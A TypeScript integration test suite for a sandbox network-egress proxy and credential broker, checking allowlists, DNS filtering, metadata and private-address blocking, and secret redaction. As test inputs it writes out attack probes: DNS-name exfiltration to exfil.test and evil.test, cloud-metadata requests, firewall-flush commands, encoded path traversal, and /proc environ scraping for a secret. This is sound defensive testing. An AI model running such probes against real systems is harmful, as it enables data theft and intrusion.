import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { AddressInfo } from 'node:net';
import { expectNoLeaks, testDataDir } from '../helpers/sandbox.js';
import { HostEnvironment } from '../../src/host/host-env.host.js';
import { NamespaceBackend } from '../../src/backends/namespace/namespace-backend.host.js';
import { EgressNetwork } from '../../src/host/netns-network.host.js';
import { listInstanceLinks, listInstanceNetns } from '../../src/host/netns-pool.host.js';
import { listTables } from '../../src/host/nftables.host.js';
import type { EgressEvent } from '../../src/host/egress/egress-proxy.js';
import type { BrokerLogEntry } from '../../src/host/egress/broker.js';
import { CredentialBroker } from '../../src/host/egress/broker.js';
import { baseEnv } from '../../src/host/sandbox-layout.js';
import { superviseExec } from '../../src/engine/supervise.js';
import { newSandboxId } from '../../src/engine/ids.js';
import { parseSpec, type SandboxSpecInput } from '../../src/sandbox-spec/index.js';
import type { BackendSandbox } from '../../src/backends/backend.js';
import type { ExecResult } from '../../src/wire/index.js';
import { FakeInternet } from './network-fake-internet.js';

/*
 * Real sandboxes in real network namespaces. Every destination is 127.0.0.1 or the fake internet
 * (198.51.100.0/24 in a namespace this file makes); the proxy resolves names only from its hosts
 * map (hostsOnly), so no query or packet leaves the machine.
 */
const SECRET = 'capsule-test-secret-7f3a9c1e5b';
const host = new HostEnvironment({ dataDir: testDataDir() });
const events: EgressEvent[] = [];
const brokerLog: BrokerLogEntry[] = [];
const upstreamSeen: IncomingHttpHeaders[] = [];
let fake: FakeInternet;
let network: EgressNetwork;
let backend: NamespaceBackend;
let upstream: Server;
let tlsUpstream: Server;

beforeAll(async () => {
  await host.ensure();
  const broker = new CredentialBroker({ dir: join(host.dataDir, 'broker'), log: (e) => brokerLog.push(e) });
  network = new EgressNetwork({
    host,
    poolSize: 1,
    hostsOnly: true,
    hosts: {
      'allowed.test': ['198.51.100.10'],
      'www.allowed.test': ['198.51.100.10'],
      'other.test': ['198.51.100.11'],
      'internal.test': ['10.1.2.3'],
      'loopback.test': ['127.0.0.1'],
      'operator-banned.test': ['198.51.100.11'],
    },
    operatorDeny: ['operator-banned.test'],
    broker,
    log: (e) => events.push(e),
  });
  fake = new FakeInternet(network.names);
  await fake.start();
  backend = new NamespaceBackend({ host, network });
  upstream = createServer((req, res) => {
    upstreamSeen.push(req.headers);
    if (req.url?.startsWith('/v1/echo')) return res.end(JSON.stringify({ headers: req.headers }));
    if (req.url?.startsWith('/v1/leak')) return res.end(`the key is ${SECRET}!`);
    if (req.url?.startsWith('/v1/big')) return res.end('x'.repeat(100_000));
    res.end(`docs ${req.method} ${req.url}`);
  });
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
  const base = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}/v1`;
  await broker.setSecret('docs-token', SECRET);
  const handle = { upstream: base, secret: 'docs-token', headers: { Authorization: 'Bearer {{secret}}' }, maxResponseBytes: 1000 };
  await broker.registerHandle({ ...handle, name: 'docs.read', methods: ['GET'], pathPrefixes: ['/docs', '/echo', '/leak', '/big'] });
  await broker.registerHandle({ ...handle, name: 'admin', methods: ['GET', 'POST'], pathPrefixes: ['/'] });
  await broker.registerHandle({ ...handle, name: 'down', upstream: 'http://127.0.0.1:1/v1', methods: ['GET'], pathPrefixes: ['/'] });
  // The same upstream over TLS, with its own CA (the fake internet's self-signed certificate).
  tlsUpstream = createHttpsServer({ cert: fake.certPem, key: fake.keyPem }, (req, res) => {
    upstreamSeen.push(req.headers);
    res.end(`tls docs ${req.method} ${req.url}`);
  });
  await new Promise<void>((resolve) => tlsUpstream.listen(0, '127.0.0.1', resolve));
  const tlsBase = `https://127.0.0.1:${(tlsUpstream.address() as AddressInfo).port}/v1`;
  await broker.registerHandle({ ...handle, name: 'docs.tls', upstream: tlsBase, caFile: fake.certFile, methods: ['GET'], pathPrefixes: ['/docs'] });
});

afterAll(async () => {
  await backend?.close();
  await new Promise((resolve) => tlsUpstream?.close(resolve));
  await fake?.stop();
  await new Promise((resolve) => upstream?.close(resolve));
  // close() leaves no namespace, veth, nft table or listener of this instance behind.
  expect(await listInstanceNetns(network.names)).toEqual([]);
  expect(await listInstanceLinks(network.names)).toEqual([]);
  expect(await listTables(network.names.table)).toEqual([]);
});

// The pool refills in the background; its ready namespaces are not leaks, its half-made ones'
// helper processes would look like one.
afterEach(async () => {
  await network.warm();
  await expectNoLeaks();
});

const ALLOW = { mode: 'allowlist' as const, allow: ['allowed.test', '*.allowed.test'] };

async function inSandbox(network: SandboxSpecInput['network'], body: (sandbox: BackendSandbox) => Promise<void>): Promise<void> {
  const sandbox = await backend.create(parseSpec({ network, limits: { wallClockMs: 15_000 } }), { id: newSandboxId() });
  try {
    await writeFile(join(sandbox.workspaceDir, 'ca.pem'), fake.certPem, { mode: 0o644 });
    await body(sandbox);
  } catch (error) {
    (error as Error).message = `sandbox ${sandbox.id}: ${(error as Error).message}`;
    throw error;
  } finally {
    await sandbox.destroy();
  }
}

function sh(sandbox: BackendSandbox, script: string, env: Record<string, string> = {}): Promise<ExecResult> {
  return superviseExec(sandbox, { argv: ['bash', '-c', script], env: { ...baseEnv(), ...env }, cwd: '/workspace' }, { timeoutMs: 15_000 });
}

function py(sandbox: BackendSandbox, code: string): Promise<ExecResult> {
  return superviseExec(sandbox, { argv: ['python3', '-c', code], env: baseEnv(), cwd: '/workspace' }, { timeoutMs: 15_000 });
}

const show = (r: ExecResult): string => JSON.stringify({ exit: r.exitCode, out: r.stdout.slice(0, 800), err: r.stderr.slice(0, 800) });

describe('allowed destinations are reachable through the proxy', () => {
  it('curl (proxy-aware) reaches an allowed domain over HTTP and HTTPS (CONNECT)', async () => {
    await inSandbox(ALLOW, async (sandbox) => {
      const r = await sh(sandbox, 'curl -sS http://allowed.test/ok && curl -sS --cacert ca.pem https://www.allowed.test/ok && echo "$HTTPS_PROXY"');
      expect(r.exitCode, show(r)).toBe(0);
      expect(r.stdout).toMatch(/^hello from allowed.test via 198\.51\.100\.10\nhello from www.allowed.test via 198\.51\.100\.10\nhttp:\/\/10\.\d+\.\d+\.1:3128\n$/);
    });
  });

  it('Python urllib (proxy-aware) reaches it over HTTP and HTTPS', async () => {
    await inSandbox(ALLOW, async (sandbox) => {
      const r = await py(sandbox, [
        'import ssl, urllib.request',
        'print(urllib.request.urlopen("http://allowed.test/py").read().decode(), end="")',
        'ctx = ssl.create_default_context(cafile="/workspace/ca.pem")',
        'print(urllib.request.urlopen("https://allowed.test/py", context=ctx).read().decode(), end="")',
      ].join('\n'));
      expect(r.exitCode, show(r)).toBe(0);
      expect(r.stdout).toBe('hello from allowed.test via 198.51.100.10\n'.repeat(2));
    });
  });

  it('Node fetch (ignores HTTPS_PROXY) reaches it through DNS + transparent redirect by Host and SNI', async () => {
    await inSandbox(ALLOW, async (sandbox) => {
      const code = 'for (const u of ["http://allowed.test/n", "https://allowed.test/n"]) process.stdout.write(await (await fetch(u)).text())';
      const r = await superviseExec(sandbox, {
        argv: ['node', '--input-type=module', '-e', code],
        env: { ...baseEnv(), NODE_EXTRA_CA_CERTS: '/workspace/ca.pem' },
        cwd: '/workspace',
      }, { timeoutMs: 15_000 });
      expect(r.exitCode, show(r)).toBe(0);
      expect(r.stdout).toBe('hello from allowed.test via 198.51.100.10\n'.repeat(2));
      expect(network.stats(sandbox.id)?.connections).toBe(2);
    });
  });
});

describe('everything else is denied, fast and with a clear reason', () => {
  it('denies a domain outside the allowlist: 403 naming the rule, counted, logged and reported', async () => {
    await inSandbox(ALLOW, async (sandbox) => {
      const before = events.length;
      // "Fast" means answered, not left to time out: the proxy's 403 body and curl's exit 56 (a
      // refused tunnel; a timeout would be 28) prove it without measuring a busy machine's clock.
      const r = await sh(sandbox, 'curl -sS http://other.test/; echo; curl -sS --cacert ca.pem https://other.test/ 2>&1; echo "exit=$?"');
      const body = JSON.parse(r.stdout.split('\n')[0] ?? '') as { code: string; rule: string; message: string };
      expect(body).toMatchObject({ code: 'EGRESS_NOT_ALLOWED', rule: 'allowlist', destination: 'other.test:80' });
      expect(body.message).toMatch(/other\.test:80 is not in this sandbox's allowlist; add it to network\.allow/);
      expect(r.stdout).toMatch(/CONNECT tunnel failed, response 403[\s\S]*exit=56/);
      expect((await sandbox.counters()).egressBlocked).toBe(2);
      expect(events.slice(before).map((e) => `${e.protocol} ${e.destination} ${e.rule}`)).toEqual([
        'http other.test:80 allowlist',
        'connect other.test:443 allowlist',
      ]);
      expect(events[before]?.sandboxId).toBe(sandbox.id);
    });
  });

  it('cannot change its own network: rules, links and routes belong to the host', async () => {
    await inSandbox({ mode: 'internet' }, async (sandbox) => {
      const r = await sh(sandbox, [
        '/usr/sbin/nft flush ruleset 2>&1; echo "nft=$?"',
        '/usr/sbin/ip link set eth0 down 2>&1; echo "link=$?"',
        '/usr/sbin/ip route replace default dev eth0 2>&1; echo "route=$?"',
      ].join('\n'));
      expect(r.stdout, show(r)).toMatch(/Operation not permitted[\s\S]*nft=1[\s\S]*Operation not permitted\nlink=2[\s\S]*Operation not permitted\nroute=2/);
      const ok = await sh(sandbox, 'curl -sS -o /dev/null -w "%{http_code}" http://other.test/');
      expect(ok.stdout).toBe('200');
    });
  });

  it('decides every request on a reused proxy connection on its own', async () => {
    await inSandbox(ALLOW, async (sandbox) => {
      const r = await sh(sandbox, 'curl -sS -w "\\n" http://allowed.test/a http://other.test/b 2>&1; echo "exit=$?"');
      expect(r.stdout, show(r)).toMatch(/^hello from allowed.test via 198\.51\.100\.10\n\n\{"code":"EGRESS_NOT_ALLOWED".*"destination":"other.test:80"\}\nexit=0\n$/);
      expect(network.stats(sandbox.id)).toMatchObject({ connections: 1, blocked: 1 });
    });
  });

  it('holds the TLS server name inside a CONNECT tunnel to the policy (no domain fronting)', async () => {
    await inSandbox(ALLOW, async (sandbox) => {
      const r = await sh(sandbox, [
        'curl -sS --cacert ca.pem --connect-to other.test:443:allowed.test:443 https://other.test/ 2>&1; echo "exit=$?"',
        'curl -sS --cacert ca.pem --connect-to www.allowed.test:443:allowed.test:443 https://www.allowed.test/',
      ].join('\n'));
      expect(r.stdout, show(r)).toMatch(/^curl: \(35\) .*\nexit=35\nhello from www.allowed.test/);
      expect(events.at(-1)).toMatchObject({ destination: 'other.test:443', rule: 'tls-server-name:allowlist' });
    });
  });

  it('denies a raw IP by proxy, by redirect and by direct TCP (reset at once)', async () => {
    await inSandbox(ALLOW, async (sandbox) => {
      const r = await sh(sandbox, [
        'curl -sS http://198.51.100.11/; echo',
        "curl -sS --noproxy '*' http://198.51.100.11/; echo",
        'python3 -c "import socket; socket.create_connection((\'198.51.100.11\', 7000), timeout=5)" 2>&1 | tail -1',
      ].join('\n'));
      const lines = r.stdout.split('\n');
      expect(JSON.parse(lines[0] ?? '')).toMatchObject({ code: 'EGRESS_NOT_ALLOWED', destination: '198.51.100.11:80' });
      expect(JSON.parse(lines[1] ?? '')).toMatchObject({ code: 'EGRESS_NOT_ALLOWED', destination: '198.51.100.11:80' });
      expect(lines[2]).toMatch(/ConnectionRefusedError/);
    });
  });

  it('never reaches the metadata address, even when a CIDR allows it', async () => {
    await inSandbox({ mode: 'allowlist', allow: ['169.254.169.254/32'] }, async (sandbox) => {
      const r = await sh(sandbox, 'curl -sS http://169.254.169.254/latest/meta-data/; echo; curl -sS --noproxy "*" http://169.254.169.254/latest/meta-data/');
      const [viaProxy, redirected] = r.stdout.split('\n').map((line) => JSON.parse(line) as { code: string; rule: string });
      expect(viaProxy).toMatchObject({ code: 'EGRESS_FORBIDDEN_ADDRESS', rule: 'always-deny:link-local (cloud metadata)' });
      expect(redirected).toMatchObject({ code: 'EGRESS_FORBIDDEN_ADDRESS' });
    });
  });

  it('denies private addresses and names resolving to them (DNS rebinding), in internet mode too', async () => {
    await inSandbox({ mode: 'internet' }, async (sandbox) => {
      const r = await sh(sandbox, 'for u in http://10.1.2.3/ http://internal.test/ http://loopback.test:8080/ http://[fd00::1]/; do curl -sS "$u"; echo; done');
      const bodies = r.stdout.trim().split('\n').map((line) => JSON.parse(line) as { code: string; rule: string; message: string });
      expect(bodies.map((b) => b.rule)).toEqual(['always-deny:private-10', 'always-deny:private-10', 'always-deny:loopback', 'always-deny:unique-local-v6']);
      expect(bodies[1]?.message).toBe('10.1.2.3:80 (internal.test resolves to it) denied: private-10 addresses are never reachable from a sandbox');
      // The fake internet itself is public here: internet mode reaches it.
      const ok = await sh(sandbox, 'curl -sS http://other.test/');
      expect(ok.stdout).toMatch(/^hello from other.test/);
    });
  });

  it("denies the host's own addresses and ports", async () => {
    const listener = createServer((_req, res) => res.end('host service'));
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const port = (listener.address() as AddressInfo).port;
    try {
      await inSandbox({ mode: 'internet' }, async (sandbox) => {
        const proxy = network.proxyAddress;
        const r = await sh(sandbox, [
          `out=$(curl -sS http://127.0.0.1:${port}/ 2>&1); echo "$out exit=$?"`,
          `out=$(curl -sS --noproxy '*' http://${proxy}:${port}/ 2>&1); echo "$out exit=$?"`,
          `curl -sS http://${proxy}:${port}/; echo`,
          `python3 -c "import socket; socket.create_connection(('${proxy}', 22), timeout=5)" 2>&1 | tail -1`,
        ].join('\n'));
        const lines = r.stdout.split('\n');
        // NO_PROXY keeps 127.0.0.1 in the sandbox's own loopback, where nothing listens.
        expect(lines[0]).toMatch(/Failed to connect to 127\.0\.0\.1.* exit=7$/);
        // Straight to the proxy's address on another port: refused by nftables at once.
        expect(lines[1]).toMatch(/Failed to connect to .* exit=7$/);
        expect(JSON.parse(lines[2] ?? '')).toMatchObject({ code: 'EGRESS_FORBIDDEN_ADDRESS' });
        expect(lines[3]).toMatch(/ConnectionRefusedError/);
      });
    } finally {
      await new Promise((resolve) => listener.close(resolve));
    }
  });

  it('drops UDP other than DNS: sendto fails with EPERM and nothing arrives', async () => {
    await inSandbox({ mode: 'internet' }, async (sandbox) => {
      const r = await py(sandbox, [
        'import socket',
        's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
        'try:\n    s.sendto(b"leak", ("198.51.100.10", 9999))\n    print("sent")\nexcept OSError as e:\n    print(type(e).__name__, e.errno)',
      ].join('\n'));
      expect(r.stdout, show(r)).toBe('PermissionError 1\n');
      expect(await fake.udpPackets()).toBe(0);
    });
  });

  it('answers DNS only for allowed names and forwards nothing (no exfiltration by name)', async () => {
    await inSandbox(ALLOW, async (sandbox) => {
      const before = events.length;
      const r = await sh(sandbox, [
        'getent hosts allowed.test | cut -d" " -f1',
        'getent hosts c2VjcmV0.allowed.test.exfil.test; echo "exfil=$?"',
        'getent hosts allowed.test.evil.test; echo "lookalike=$?"',
        // A resolver elsewhere is no way out: port 53 anywhere lands on the proxy's resolver.
        `python3 -c "
import socket
q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + b''.join(bytes([len(p)]) + p.encode() for p in 'data.other.test'.split('.')) + b'\\x00\\x00\\x01\\x00\\x01'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, ('198.51.100.10', 53))
print('rcode', s.recv(512)[3] & 15)"`,
      ].join('\n'));
      expect(r.stdout, show(r)).toBe(`${network.proxyAddress}\nexfil=2\nlookalike=2\nrcode 3\n`);
      const dns = events.slice(before).filter((e) => e.protocol === 'dns').map((e) => e.destination);
      expect(dns).toEqual(expect.arrayContaining(['c2VjcmV0.allowed.test.exfil.test'.toLowerCase(), 'allowed.test.evil.test', 'data.other.test']));
      expect(await fake.udpPackets()).toBe(0);
    });
  });

  it("applies the operator's deny list over a sandbox's allowlist", async () => {
    await inSandbox({ mode: 'allowlist', allow: ['operator-banned.test'] }, async (sandbox) => {
      const r = await sh(sandbox, 'curl -sS http://operator-banned.test/');
      expect(JSON.parse(r.stdout)).toMatchObject({ code: 'EGRESS_OPERATOR_DENY', rule: 'operator-deny:operator-banned.test' });
    });
  });

  it('limits outbound connections per sandbox with a readable 429', async () => {
    await inSandbox({ ...ALLOW, maxConnections: 2 }, async (sandbox) => {
      const r = await sh(sandbox, 'for i in 1 2 3; do curl -sS -o /dev/null -w "%{http_code} " http://allowed.test/; done; curl -sS http://allowed.test/');
      expect(r.stdout).toMatch(/^200 200 429 \{"code":"EGRESS_LIMIT",.*"message":"outbound connection limit 2 reached; raise network.maxConnections/);
      expect((await sandbox.counters()).egressLimitHits).toBe(2);
    });
  });
});

describe('policy at run time', () => {
  it('applies a new policy to the next connection at once and closes tunnels it no longer allows', async () => {
    await inSandbox({ mode: 'allowlist', allow: ['allowed.test'] }, async (sandbox) => {
      // A CONNECT tunnel to the fake internet's TCP echo stays open across the change.
      const code = [
        'import socket, sys',
        's = socket.create_connection(("' + network.proxyAddress + '", 3128), timeout=10)',
        's.sendall(b"CONNECT allowed.test:7000 HTTP/1.1\\r\\nHost: allowed.test:7000\\r\\n\\r\\n")',
        'assert s.recv(1024).startswith(b"HTTP/1.1 200")',
        's.sendall(b"ping"); print(s.recv(16).decode(), flush=True)',
        'sys.stdin.readline()',
        'try:\n    s.sendall(b"ping2"); data = s.recv(16)\n    print("after:", data.decode() or "closed")\nexcept OSError as e:\n    print("after:", type(e).__name__)',
      ].join('\n');
      const proc = await sandbox.exec({ argv: ['python3', '-c', code], env: baseEnv(), cwd: '/workspace', stdin: true });
      let out = '';
      const pinged = new Promise<void>((resolve) => proc.onStdout((chunk) => {
        out += chunk.toString();
        if (out.includes('ping')) resolve();
      }));
      await pinged;
      // The change is in force when the call returns: the open tunnel is cut and the next
      // connections follow the new list (asserted below). Its latency is a benchmark, not a test.
      await sandbox.setNetworkPolicy?.(parseSpec({ network: { mode: 'allowlist', allow: ['other.test'] } }).network);
      proc.write('go\n');
      await proc.exited;
      expect(out).toMatch(/^ping\nafter: (closed|ConnectionResetError|BrokenPipeError)\n$/);
      const r = await sh(sandbox, 'curl -sS -o /dev/null -w "%{http_code} " http://allowed.test/; curl -sS http://other.test/');
      expect(r.stdout).toMatch(/^403 hello from other.test/);
    });
  });

  it('keeps a sandbox created without a network without one (mode none stays --unshare-net)', async () => {
    const before = await listInstanceNetns(network.names);
    const sandbox = await backend.create(parseSpec({}), { id: newSandboxId() });
    try {
      expect(await listInstanceNetns(network.names)).toEqual(before);
      const r = await py(sandbox, 'import socket\ntry:\n    socket.create_connection(("198.51.100.10", 80), timeout=3)\nexcept OSError as e:\n    print(e.errno)');
      expect(r.stdout.trim()).toBe('101'); // ENETUNREACH: only loopback exists
      await expect(sandbox.setNetworkPolicy?.(parseSpec({ network: { mode: 'internet' } }).network)).rejects.toMatchObject({ code: 'BACKEND_CANNOT_ENFORCE' });
    } finally {
      await sandbox.destroy();
    }
  });
});

describe('credential broker', () => {
  it('forwards a granted handle upstream with the credential; curl and Node fetch both work', async () => {
    await inSandbox({ mode: 'allowlist', allow: [], handles: ['docs.read'] }, async (sandbox) => {
      upstreamSeen.length = 0;
      const r = await sh(sandbox, [
        'curl -sS -i http://broker.capsule/docs.read/docs/intro?x=1',
        'echo',
        `node -e "fetch('http://broker.capsule/docs.read/docs/node').then(r => r.text()).then(t => console.log(t))"`,
      ].join('\n'));
      expect(r.stdout, show(r)).toMatch(/^HTTP\/1\.1 200 OK\r\n[\s\S]*x-capsule-handle: docs.read\r\n[\s\S]*\r\n\r\ndocs GET \/v1\/docs\/intro\?x=1\ndocs GET \/v1\/docs\/node\n$/i);
      expect(upstreamSeen.map((h) => h.authorization)).toEqual([`Bearer ${SECRET}`, `Bearer ${SECRET}`]);
    });
  });

  it('reaches an https upstream (operator CA) with the credential; the sandbox speaks plain HTTP to the broker', async () => {
    await inSandbox({ mode: 'allowlist', allow: [], handles: ['docs.tls'] }, async (sandbox) => {
      upstreamSeen.length = 0;
      const r = await sh(sandbox, 'curl -sS http://broker.capsule/docs.tls/docs/a');
      expect(r.stdout, show(r)).toBe('tls docs GET /v1/docs/a');
      expect(upstreamSeen.map((h) => h.authorization)).toEqual([`Bearer ${SECRET}`]);
    });
  });

  it('refuses unknown handles, handles not granted, other methods and paths with stable codes', async () => {
    await inSandbox({ mode: 'allowlist', allow: [], handles: ['docs.read'] }, async (sandbox) => {
      const r = await sh(sandbox, [
        'curl -sS http://broker.capsule/nope/docs/a; echo',
        'curl -sS http://broker.capsule/admin/anything; echo',
        'curl -sS -X POST http://broker.capsule/docs.read/docs/a; echo',
        'curl -sS http://broker.capsule/docs.read/private; echo',
        'curl -sS --path-as-is http://broker.capsule/docs.read/docs/../private; echo',
        'curl -sS http://broker.capsule/docs.read/docsx; echo',
        // Encoded slashes and dot segments are refused, never resolved (issue 11, finding 7).
        'curl -sS --path-as-is http://broker.capsule/docs.read/docs/..%2fprivate; echo',
        `node -e "fetch('http://broker.capsule/docs.read/docs/..%5cprivate').then(r => r.text()).then(t => console.log(t))"`,
      ].join('\n'));
      const codes = r.stdout.trim().split('\n').map((line) => (JSON.parse(line) as { code: string }).code);
      expect(codes, show(r)).toEqual([
        'BROKER_UNKNOWN_HANDLE', 'BROKER_UNKNOWN_HANDLE', 'BROKER_METHOD_NOT_ALLOWED',
        'BROKER_PATH_NOT_ALLOWED', 'BROKER_BAD_PATH', 'BROKER_PATH_NOT_ALLOWED', 'BROKER_BAD_PATH', 'BROKER_BAD_PATH',
      ]);
    });
  });

  it('truncates responses above the cap and flags it', async () => {
    await inSandbox({ mode: 'allowlist', allow: [], handles: ['docs.read'] }, async (sandbox) => {
      const r = await sh(sandbox, 'curl -sS -D headers.txt http://broker.capsule/docs.read/big | wc -c; grep -i "^x-capsule-truncated" headers.txt');
      expect(r.stdout).toMatch(/^1000\nx-capsule-truncated: true\r\n$/i);
    });
  });

  it('never lets the secret reach the sandbox: env, /proc, files, echoes, errors, logs', async () => {
    await inSandbox({ mode: 'allowlist', allow: [], handles: ['docs.read', 'down'] }, async (sandbox) => {
      const r = await sh(sandbox, [
        'curl -sS http://broker.capsule/docs.read/echo',
        'curl -sS http://broker.capsule/docs.read/leak',
        'curl -sS http://broker.capsule/down/x',
        'env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr "\\0" "\\n"',
        `ls ${join(host.dataDir, 'broker')} 2>&1`,
        'grep -rsl capsule-test-secret / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr --exclude-dir=dev; echo "grep=$?"',
      ].join('\n'));
      const all = r.stdout + r.stderr;
      expect(all).not.toContain(SECRET);
      expect(all).toContain('"authorization":"[REDACTED]"');
      expect(all).toContain('the key is [REDACTED]!');
      expect(all).toMatch(/BROKER_UPSTREAM_FAILED/);
      expect(all).toMatch(/No such file or directory/);
      expect(all).toMatch(/grep=[12]\n/); // no file matched
      expect(JSON.stringify(brokerLog) + JSON.stringify(events)).not.toContain(SECRET);
      expect(JSON.stringify(await network.broker.listHandles())).not.toContain(SECRET);
    });
  });
});
